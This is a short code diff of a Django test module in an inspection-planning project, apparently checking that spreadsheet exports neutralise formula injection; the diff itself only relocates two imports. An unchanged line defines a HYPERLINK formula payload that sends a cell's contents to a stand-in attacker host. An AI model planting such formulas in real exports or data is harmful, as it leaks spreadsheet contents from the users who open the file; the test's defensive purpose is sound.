@@ -20,14 +20,14 @@ from django.db.models import F, Value
 from django.db.models.functions import Concat
 
 from shuangsuiji.accounts.models import Department, User
-from shuangsuiji.common import demo
 from shuangsuiji.common.tabular import FORMULA_START
-from shuangsuiji.common.testing import routes
 from shuangsuiji.directory.models import Entity
 from shuangsuiji.inspectors.models import Inspector
 from shuangsuiji.items.models import InspectionItem
 from shuangsuiji.plans.models import AnnualPlan, PlanEntry, Task, Visit
 from shuangsuiji.results.models import Publication
+from shuangsuiji.site import demo
+from shuangsuiji.site.testing import routes
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此")'
 PLANTED = (Entity, InspectionItem, AnnualPlan, PlanEntry, Task, Inspector, Publication)
